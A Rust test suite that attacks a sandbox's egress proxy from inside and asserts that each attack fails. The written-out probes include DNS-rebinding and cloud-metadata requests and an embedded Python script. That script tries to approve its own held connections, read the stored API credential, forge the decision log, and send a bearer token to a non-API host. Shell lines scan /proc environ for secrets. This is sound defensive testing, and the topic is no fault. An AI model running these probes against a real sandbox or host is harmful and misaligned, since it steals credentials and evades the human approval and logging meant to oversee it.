//! The attacker's view of `--network proxy`, as root and as an unprivileged user (`nobody`
//! through setpriv: the path real users take, bwrap in an unprivileged user namespace and the
//! proxy running as that user too). Each attack is run from inside a sandbox; the same case
//! run on the host as the same user is its control: there it works.

use super::*;

use serde_json::{Value, json};
use std::process::{Command, Stdio};

/// Names on the allowlist (`*.rebind.test`) whose addresses point inward, in each form, with
/// the reason the proxy gives. `mixed` has a good address (127.0.0.2, let through by the
/// test's `internal_allowed`) beside a bad one.
const REBINDS: &[(&str, &str, &str)] = &[
    ("v4.rebind.test", "127.0.0.1", "loopback"),
    (
        "ll.rebind.test",
        "169.254.169.254",
        "link-local or cloud metadata",
    ),
    ("private.rebind.test", "10.1.2.3", "private (10/8)"),
    ("mapped.rebind.test", "::ffff:127.0.0.1", "IPv4-mapped"),
    ("sixtofour.rebind.test", "2002:7f00:1::1", "6to4"),
    ("nat64.rebind.test", "64:ff9b::7f00:1", "NAT64"),
    ("v6loop.rebind.test", "::1", "loopback (::1)"),
    ("mixed.rebind.test", "::ffff:127.0.0.1", "IPv4-mapped"),
];

/// Whether the test runs for this user: tools there, and for `nobody` a root caller.
fn ready(nobody: bool, tools: &[&str]) -> bool {
    prerequisites(tools) && (!nobody || can_drop_to_nobody())
}

fn who(nobody: bool) -> &'static str {
    if nobody { "nobody" } else { "root" }
}

/// Writes the probe and `cases` into the project; returns the probe's argv.
fn probe_files(e: &Egress, cases: &Value) -> (PathBuf, PathBuf) {
    let tag = unique();
    let probe = e.project.join(format!(".attack-probe-{tag}.py"));
    std::fs::write(&probe, PROBE).unwrap();
    let file = e.project.join(format!(".attack-cases-{tag}.json"));
    std::fs::write(&file, cases.to_string()).unwrap();
    (probe, file)
}

/// The probe over `cases` on the host, as the world's user: the controls.
fn on_host(e: &Egress, cases: &Value) -> Report {
    let (probe, file) = probe_files(e, cases);
    let mut command = Command::new("python3");
    // The system's python, as inside: a PATH of root's (pyenv shims) is not nobody's to run.
    command
        .arg(&probe)
        .arg(&file)
        .env("PATH", "/usr/local/bin:/usr/bin:/bin");
    let mut command = if e.nobody {
        nobody_command(&command)
    } else {
        command
    };
    let out = command.output().unwrap();
    Report {
        text: String::from_utf8_lossy(&out.stdout).to_string()
            + "\n--stderr--\n"
            + &String::from_utf8_lossy(&out.stderr),
    }
}

/// `before` (sh), then the probe over `cases`, inside a proxy-mode sandbox; its output and
/// the decision log as it stood when the probe ended.
fn inside(e: &Egress, before: &str, cases: &Value) -> (Report, String) {
    let (probe, file) = probe_files(e, cases);
    let mut log = String::new();
    let text = e.launch_then(
        &[],
        &format!(
            "{before}\npython3 '{}' '{}'",
            probe.display(),
            file.display()
        ),
        || log = e.decisions(),
    );
    (Report { text }, log)
}

fn unreachable(got: &str) -> bool {
    matches!(got, "ENETUNREACH" | "EHOSTUNREACH")
}

fn refused(got: &str) -> bool {
    got == "403" || got == "400"
}

// ---------------------------------------------------------------------------------------
// Around the proxy, through it, and inward
// ---------------------------------------------------------------------------------------

/// EGR-01..05 from the attacker's side: no route out (public IPv4 and IPv6, metadata), no
/// DNS (the host's resolver stub on its loopback, `getent`), the host's loopback services
/// neither directly nor through the proxy, a denied name refused by CONNECT and plain HTTP
/// before any DNS query, and allowed names that resolve inward in every form refused for
/// their address. Controls: from the host, as the same user, each direct case works; inside,
/// an allowed name passes both ways.
fn network_attacks(nobody: bool) {
    if !ready(nobody, TOOLS) {
        return;
    }
    let mut dns: Vec<(&str, IpAddr)> = REBINDS
        .iter()
        .map(|(name, address, _)| (*name, address.parse().unwrap()))
        .collect();
    dns.push(("mixed.rebind.test", [127, 0, 0, 2].into()));
    let e = Egress::new_as("egress-attacker-net", nobody, &dns);
    let (i, p, d) = (e.inward_port(), e.port(), e.dns.port);
    e.write_config(&[format!("*.rebind.test:{i}")]);
    let direct = json!([
        ["route", "route_v4", "1.1.1.1", 53],
        ["route", "route_v6", "2606:4700:4700::1111", 53],
        ["route", "route_metadata", "169.254.169.254", 80],
        ["udp", "dns_stub", "127.0.0.1", d],
        ["tcp", "host_loopback", "127.0.0.1", i],
        ["tcp6", "host_loopback_mapped", "::ffff:127.0.0.1", i],
        ["tcp", "host_upstream", "127.0.0.2", p],
    ]);
    let plain = |target: &str, path: &str| {
        format!("GET http://{target}{path} HTTP/1.1\r\nHost: {target}\r\n\r\n")
    };
    let mut through: Vec<(String, String)> = vec![
        (
            "denied_connect".into(),
            connect(&format!("denied.test:{p}")),
        ),
        (
            "denied_plain".into(),
            plain(&format!("denied.test:{p}"), "/"),
        ),
        (
            "loopback_connect".into(),
            connect(&format!("127.0.0.1:{i}")),
        ),
        (
            "loopback_plain".into(),
            plain(&format!("127.0.0.1:{i}"), "/"),
        ),
        (
            "mapped_literal".into(),
            connect(&format!("[::ffff:127.0.0.1]:{i}")),
        ),
        (
            "sixtofour_literal".into(),
            connect(&format!("[2002:7f00:1::1]:{i}")),
        ),
        (
            "nat64_literal".into(),
            connect(&format!("[64:ff9b::7f00:1]:{i}")),
        ),
        (
            "rebind_plain".into(),
            plain(&format!("v4.rebind.test:{i}"), "/"),
        ),
    ];
    for (name, _, _) in REBINDS {
        through.push((format!("rebind_{name}"), connect(&format!("{name}:{i}"))));
    }
    let mut cases: Vec<Value> = direct.as_array().unwrap().clone();
    for (label, request) in &through {
        cases.push(json!(["raw", label, request, "x"]));
    }
    let up = format!("upstream.test:{p}");
    cases.push(json!([
        "raw",
        "allowed_connect",
        connect(&up),
        "upstream.test"
    ]));
    cases.push(json!(["raw", "allowed_plain", plain(&up, "/plain")]));
    let (r, log) = inside(
        &e,
        "echo uid=$(id -u)\ngetent hosts example.com >/dev/null && echo getent=resolved || echo getent=no",
        &Value::Array(cases),
    );
    let user = who(nobody);
    if nobody {
        r.expect("uid", "65534");
    }
    for label in ["route_v4", "route_v6", "route_metadata"] {
        assert!(unreachable(&r.get(label)), "{user} {label}:\n{}", r.text);
    }
    assert_ne!(r.get("dns_stub"), "answered", "{user}:\n{}", r.text);
    r.expect("getent", "no");
    for label in ["host_loopback", "host_loopback_mapped", "host_upstream"] {
        r.expect(label, "ECONNREFUSED");
    }
    for (label, _) in &through {
        assert!(refused(&r.get(label)), "{user} {label}:\n{}", r.text);
    }
    // An allowed name that points inward is refused for its address, after resolving.
    for (name, address, reason) in REBINDS {
        let said = format!("{name}:{i} resolves to {address}: {reason}");
        assert!(log.contains(&said), "{user}: no {said:?} in\n{log}");
    }
    let asked = e.dns.asked();
    assert!(
        !asked
            .iter()
            .any(|n| n.starts_with("denied") || n == "example.com"),
        "{user}: a denied name reached the resolver: {asked:?}"
    );
    // Controls inside: the allowed name passes both ways, and only those two reached it.
    r.expect("allowed_connect", "200");
    r.expect("allowed_connect.tunnel", "upstream-ok");
    r.expect("allowed_plain", "200");
    assert_eq!(e.upstream.heads().len(), 2, "{:?}", e.upstream.heads());
    assert!(asked.iter().any(|n| n == "mapped.rebind.test"), "{asked:?}");
    // Controls on the host, as the same user: every direct case works there.
    let host = on_host(&e, &direct);
    for label in [
        "route_v4",
        "route_metadata",
        "host_loopback",
        "host_loopback_mapped",
        "host_upstream",
    ] {
        host.expect(label, "ok");
    }
    host.expect("dns_stub", "answered");
}

#[test]
fn network_attacks_fail_as_root() {
    network_attacks(false);
}

#[test]
fn network_attacks_fail_as_nobody() {
    network_attacks(true);
}

// ---------------------------------------------------------------------------------------
// The proxy's own files, the credential, and the placeholder
// ---------------------------------------------------------------------------------------

/// Run inside with a credential handed over and unlisted hosts held: finds the host paths of
/// its own state and runtime dirs (its mounts name them), answers its own held connection
/// through `egress-held/`, reads the credential and the proxy's spec, forges its decision
/// log, looks for the proxy's process; then (the control) waits on a second held connection
/// the host answers through the same file; then sends its placeholder to an allowed host
/// that is not the API, every way it can.
const ATTACK_FILES: &str = r#"
import errno, json, os, socket, sys, threading, time

held_target, up, second = sys.argv[1:4]
placeholder = os.environ.get("CLAUDE_CODE_OAUTH_TOKEN", "")

def say(key, value):
    print(f"{key}={value}", flush=True)

def ename(e):
    return errno.errorcode.get(e.errno, str(e.errno)) if e.errno else "timeout"

mounts = {}
for line in open("/proc/self/mountinfo"):
    fields = line.split()
    mounts[fields[4]] = fields[3]
state = os.path.dirname(mounts["/run/sandbox-deck/status"])
runtime = os.path.dirname(mounts["/run/sandbox-deck/hook-settings.json"])
root = os.path.dirname(os.path.dirname(state))
say("state", state)

def request(label, head, then=None):
    try:
        s = socket.create_connection(("127.0.0.1", 3128), timeout=60)
        s.sendall(head.encode())
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        status = data.split(b" ")[1].decode() if data else "closed"
        if status == "200" and then:
            s.sendall(then.encode())
            body = b""
            while True:
                chunk = s.recv(4096)
                if not chunk:
                    break
                body += chunk
            status += "+upstream-ok" if b"upstream-ok" in body else "+nothing"
        say(label, status)
    except OSError as e:
        say(label, ename(e))

def attempt(label, action):
    try:
        action()
        say(label, "ok")
    except OSError as e:
        say(label, ename(e))

def write(path, text):
    def go():
        with open(path, "w") as f:
            f.write(text)
    return go

def read(path):
    return lambda: open(path).read()

def connect(target):
    return f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"

get = "GET /held HTTP/1.1\r\nHost: held.test\r\nConnection: close\r\n\r\n"

first = threading.Thread(target=request, args=("self_approved", connect(held_target), get))
first.start()
time.sleep(1.5)
held = os.path.join(state, "egress-held")
answer = json.dumps({"allow": "always", "rule": held_target})
attempt("list_held", lambda: os.listdir(held))
for n in range(1, 5):
    attempt(f"answer_h{n}", write(os.path.join(held, f"h{n}.answer"), answer))
attempt("spec_read", read(os.path.join(runtime, "egress.json")))
attempt("spec_write", write(os.path.join(runtime, "egress.json"), "{}"))
attempt("log_forge", write(os.path.join(state, "egress.log"), "{}\n"))
attempt("credential_read", read(os.path.join(root, "credential", "anthropic.json")))
attempt("registry_read", read(os.path.join(root, "registry.json")))
seen = 0
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        seen += b"egress-proxy" in open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        pass
say("proxy_seen", seen)
first.join()

open(second, "w").close()
request("user_approved", connect(held_target), get)

auth = f"Authorization: Bearer {placeholder}\r\nx-api-key: {placeholder}\r\n"
port = up.split(":")[1]
request("leak_plain", f"GET http://{up}/leak-plain HTTP/1.1\r\nHost: {up}\r\n{auth}\r\n")
request("leak_tunnel", connect(up), f"GET /leak-tunnel HTTP/1.1\r\nHost: {up}\r\n{auth}Connection: close\r\n\r\n")
request("leak_host_is_api", f"GET http://{up}/leak-host HTTP/1.1\r\nHost: api.anthropic.com\r\n{auth}\r\n")
request("leak_api_other_port", f"GET http://api.anthropic.com:{port}/v1/models HTTP/1.1\r\nHost: api.anthropic.com:{port}\r\n{auth}\r\n")
request("leak_api_userinfo", f"GET http://api.anthropic.com@{up}/v1/models HTTP/1.1\r\n{auth}\r\n")
request("leak_api_connect", connect("api.anthropic.com:443"))
one = f"Authorization: Bearer {placeholder}\r\n"
request("api_oauth", f"POST http://api.anthropic.com/v1/oauth/token HTTP/1.1\r\nHost: api.anthropic.com\r\nContent-Length: 0\r\n{one}\r\n")
request("api_own", f"GET http://api.anthropic.com/v1/models HTTP/1.1\r\nHost: api.anthropic.com\r\n{one}\r\n")
"#;

/// A sandbox's state dir (the only sandbox of the world), while it runs.
fn the_state_dir(e: &Egress) -> PathBuf {
    let dir = e.world.root.path().join("state/sandbox-deck/sandboxes");
    let found: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap()
        .flatten()
        .map(|entry| entry.path())
        .collect();
    assert_eq!(found.len(), 1, "{found:?}");
    found[0].clone()
}

/// The TLS stand-in for the API (its process, its port, its request log).
fn start_stand_in(e: &Egress) -> (Guarded, String, PathBuf, PathBuf) {
    let dir = e.world.root.path().join("api");
    std::fs::create_dir_all(&dir).unwrap();
    let (ca, cert, key) = test_ca(&dir);
    let log = dir.join("requests.jsonl");
    let script = dir.join("stand-in.py");
    std::fs::write(&script, STAND_IN).unwrap();
    let mut stand_in = Command::new("python3")
        .arg(&script)
        .args([&cert, &key])
        .arg("127.0.0.2")
        .arg(&log)
        .stdout(Stdio::piped())
        .spawn_guarded();
    let mut port = String::new();
    {
        use std::io::BufRead;
        let out = stand_in.stdout.take().unwrap();
        std::io::BufReader::new(out).read_line(&mut port).unwrap();
    }
    (stand_in, port.trim().to_string(), log, ca)
}

/// EGR-10..12 and EGR-15..17 from the attacker's side: the sandbox cannot answer its own
/// held connection (the answer files, the proxy's spec, its decision log, the credential are
/// none of them inside, though its mounts tell it where they are on the host), cannot see
/// the proxy's process, and its placeholder sent to an allowed host that is not the API
/// arrives as the placeholder, never as the real token. Controls: the host, as the same user,
/// answers a held connection through the same file and it passes; reads the credential and
/// the spec at the paths the sandbox named; the API gets the real token for the placeholder.
fn control_files_and_the_token(nobody: bool) {
    if !ready(nobody, &["bwrap", "python3", "curl", "openssl"]) {
        return;
    }
    let api: IpAddr = [127, 0, 0, 2].into();
    let e = Egress::new_as(
        "egress-attacker-files",
        nobody,
        &[("api.anthropic.com", api), ("held.test", api)],
    );
    let p = e.port();
    let (stand_in, port, api_log, ca) = start_stand_in(&e);
    e.write_config_with(
        &[],
        &format!(
            "hold_seconds = 8\nhold_max = 4\napi_upstream = \"api.anthropic.com:{port}\"\nextra_ca = \"{}\"\n",
            ca.display()
        ),
    );
    let token = format!("sk-ant-oat01-REALTEST-{}", unique());
    let mut set = e.deck();
    set.args(["auth", "--set"]).stdin(Stdio::piped());
    let mut child = set.spawn_guarded();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(token.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{out:?}");

    let held_target = format!("held.test:{p}");
    let second = e.project.join(".second-held");
    let script = e.project.join(".attack-files.py");
    std::fs::write(&script, ATTACK_FILES).unwrap();
    let body = format!(
        // `REAL[T]EST`: the scanning commands' own argv must not match.
        "echo proc_token=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c 'REAL[T]EST'); \
         echo proc_placeholder=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c 'sandbox-deck-place[h]older'); \
         python3 '{}' '{held_target}' 'upstream.test:{p}' '{}'",
        script.display(),
        second.display()
    );
    let child = e
        .proxy_shell(&body)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn_guarded();
    wait_for(
        "the second held connection",
        Duration::from_secs(60),
        || second.exists(),
    );
    let state = the_state_dir(&e);
    let held = state.join("egress-held");
    // Its file (none, were it let through unasked: the attacks' asserts below say why).
    let mut id = String::from("none");
    for _ in 0..50 {
        let found = std::fs::read_dir(&held)
            .into_iter()
            .flatten()
            .flatten()
            .find_map(|f| {
                f.file_name()
                    .to_str()?
                    .strip_suffix(".json")
                    .map(String::from)
            });
        if let Some(found) = found {
            id = found;
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let sandbox_id = state.file_name().unwrap().to_str().unwrap().to_string();
    let spec = e
        .world
        .runtime
        .join("sandbox-deck/sandboxes")
        .join(&sandbox_id)
        .join("egress.json");
    let credential = e
        .world
        .root
        .path()
        .join("state/sandbox-deck/credential/anthropic.json");
    let answer = json!({"allow": "once", "rule": held_target}).to_string();
    // Control: the same user on the host, the same file the sandbox tried.
    let host = on_host(
        &e,
        &json!([
            ["write", "answer", held.join(format!("{id}.answer")), answer],
            ["read", "credential", credential, token],
            ["read", "spec", spec, "upstream.test"],
        ]),
    );
    let out = child.wait_with_output().unwrap();
    let r = Report {
        text: String::from_utf8_lossy(&out.stdout).to_string()
            + "\n--stderr--\n"
            + &String::from_utf8_lossy(&out.stderr),
    };
    let user = who(nobody);
    // The sandbox named the right paths, and reached none of them.
    r.expect("state", state.to_str().unwrap());
    r.expect("self_approved", "403");
    for label in [
        "list_held",
        "answer_h1",
        "answer_h2",
        "answer_h3",
        "answer_h4",
        "spec_read",
        "spec_write",
        "log_forge",
        "credential_read",
        "registry_read",
    ] {
        assert_ne!(r.get(label), "ok", "{user} {label}:\n{}", r.text);
    }
    r.expect("proxy_seen", "0");
    // Control: the same user on the host answered through the same file, and it passed.
    host.expect("answer", "ok");
    host.expect("credential", "found");
    host.expect("spec", "found");
    r.expect("user_approved", "200+upstream-ok");
    // The token is nowhere inside; the placeholder is (the scan's control).
    r.expect("proc_token", "0");
    assert_ne!(r.get("proc_placeholder"), "0", "{}", r.text);
    r.expect("leak_plain", "200");
    r.expect("leak_tunnel", "200+upstream-ok");
    for label in [
        "leak_host_is_api",
        "leak_api_other_port",
        "leak_api_userinfo",
        "leak_api_connect",
        "api_oauth",
    ] {
        assert!(refused(&r.get(label)), "{user} {label}:\n{}", r.text);
    }
    r.expect("api_own", "200");
    let heads = e.upstream.heads().join("\n");
    assert!(
        heads.matches("sandbox-deck-placeholder").count() >= 4,
        "the placeholder went out as it was: {heads}"
    );
    assert!(
        !heads.contains("REALTEST"),
        "{user}: the token leaked: {heads}"
    );
    // Control: the API, and only it, got the real token for the placeholder.
    let seen = std::fs::read_to_string(&api_log).unwrap_or_default();
    assert_eq!(seen.lines().count(), 1, "{seen}");
    assert!(seen.contains(&format!("Bearer {token}")), "{seen}");
    drop(stand_in);
}

#[test]
fn control_files_and_the_token_are_out_of_reach_as_root() {
    control_files_and_the_token(false);
}

#[test]
fn control_files_and_the_token_are_out_of_reach_as_nobody() {
    control_files_and_the_token(true);
}

// ---------------------------------------------------------------------------------------
// Unix sockets of the host
// ---------------------------------------------------------------------------------------

/// A listener on an abstract unix socket of the host (`name` without its `@`).
fn abstract_listener(name: &str) -> std::os::unix::net::UnixListener {
    use std::os::linux::net::SocketAddrExt;
    let address = std::os::unix::net::SocketAddr::from_abstract_name(name).unwrap();
    std::os::unix::net::UnixListener::bind_addr(&address).unwrap()
}

/// `create` as the world's user, `--network proxy`, running `body`; its record.
fn create(e: &Egress, project: &Path, body: &str) -> Value {
    let out = e
        .deck()
        .args(["--json", "create"])
        .arg(project)
        .args(["--network", "proxy", "--shell", "--", "sh", "-c", body])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    serde_json::from_slice(&out.stdout).unwrap()
}

/// The host's unix sockets from a managed proxy-mode sandbox: by path (the engine's API
/// socket, the tmux server's, another sandbox's display, the host's display) and abstract
/// (the host display's, and a listener of the host's standing for a session bus). Controls:
/// the host, as the same user, connects to each; inside, the sandbox's own display answers.
fn unix_sockets(nobody: bool) {
    if !ready(nobody, &["bwrap", "python3", "curl", "Xvfb", "tmux"]) {
        return;
    }
    let e = Egress::new_as("egress-attacker-unix", nobody, &[]);
    let host_x = HostX::start();
    let bus_name = format!("@sd-egress-bus-{}", unique());
    let bus = abstract_listener(&bus_name[1..]);
    let api = e.world.runtime.join("sandbox-deck/api.sock");
    let _engine = e
        .deck()
        .args(["serve", "--idle-timeout", "600"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn_guarded();
    wait_for("the engine's socket", Duration::from_secs(20), || {
        std::os::unix::net::UnixStream::connect(&api).is_ok()
    });
    let other = e.world.project("egress-attacker-other");
    if nobody {
        std::os::unix::fs::chown(&other, Some(65534), Some(65534)).unwrap();
    }
    let a = create(&e, &other, "exec sleep 600");
    let a_display = a["display"].as_u64().expect("A has a display");
    let cases = json!([
        ["unix", "engine_api", api],
        ["unix", "tmux", e.world.tmux_socket()],
        [
            "unix",
            "other_display",
            format!("/tmp/.X11-unix/X{a_display}")
        ],
        [
            "unix",
            "host_display",
            format!("/tmp/.X11-unix/X{}", host_x.number)
        ],
        ["unix", "host_display_abstract", host_x.abstract_name()],
        ["unix", "host_bus", bus_name],
    ]);
    let mut own = cases.as_array().unwrap().clone();
    own.push(json!(["unix", "own_display", "/tmp/.X11-unix/X${SD_X}"]));
    let (probe, file) = probe_files(&e, &Value::Array(own));
    let results = e.project.join("results");
    let b = create(
        &e,
        &e.project,
        &format!(
            "SD_X=${{DISPLAY#:}} python3 '{}' '{}' > '{results}.tmp' 2>&1; mv '{results}.tmp' '{results}'; exec sleep 600",
            probe.display(),
            file.display(),
            results = results.display()
        ),
    );
    wait_for("the probe in B", Duration::from_secs(60), || {
        results.exists()
    });
    let r = Report {
        text: std::fs::read_to_string(&results).unwrap(),
    };
    let user = who(nobody);
    for label in ["engine_api", "tmux", "other_display", "host_display"] {
        r.expect(label, "ENOENT");
    }
    for label in ["host_display_abstract", "host_bus"] {
        assert_ne!(r.get(label), "ok", "{user} {label}:\n{}", r.text);
    }
    // Controls: its own display answers inside; on the host, as the same user, all do.
    r.expect("own_display", "ok");
    let host = on_host(&e, &cases);
    for label in [
        "engine_api",
        "tmux",
        "other_display",
        "host_display",
        "host_display_abstract",
        "host_bus",
    ] {
        host.expect(label, "ok");
    }
    for record in [&a, &b] {
        let name = record["name"].as_str().unwrap();
        let out = e.deck().args(["rm", "--force", name]).output().unwrap();
        assert!(out.status.success(), "{out:?}");
    }
    drop(bus);
}

#[test]
fn host_unix_sockets_are_out_of_reach_as_root() {
    unix_sockets(false);
}

#[test]
fn host_unix_sockets_are_out_of_reach_as_nobody() {
    unix_sockets(true);
}
